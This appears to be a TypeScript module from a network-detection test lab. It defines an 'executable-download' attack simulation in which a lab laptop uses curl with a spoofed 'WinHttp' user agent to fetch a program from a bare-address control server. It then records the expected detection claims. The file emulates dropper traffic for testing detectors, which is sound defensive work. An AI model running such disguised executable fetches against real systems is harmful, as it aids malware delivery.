import type { Attack } from '../contracts.ts';
import { controlPorts, executablePath, startControl } from './control-server.ts';
import { curl } from './errands.ts';

/** As droppers do it: no name, no encryption, a program. */
export const executableDownload: Attack = {
  kind: 'executable-download',
  summary: 'a program is fetched over HTTP from a bare address',
  needs: ['curl', 'nginx', 'openssl'],
  intensities: ['medium'],
  actor: 'laptop',
  targets: ['control'],
  async run({ lab, actor, seconds, signal }) {
    const control = await startControl(lab);
    const words = ['-A', 'WinHttp', '--limit-rate', '200k', `http://${control.address}${executablePath}`];
    await curl(actor, words, { signal, seconds });
    return {
      tool: 'curl',
      arguments: words.join(' '),
      claims: [
        {
          actors: [actor.address],
          targets: [control.address],
          protocol: 'tcp',
          targetPorts: [controlPorts.http],
        },
      ],
    };
  },
};
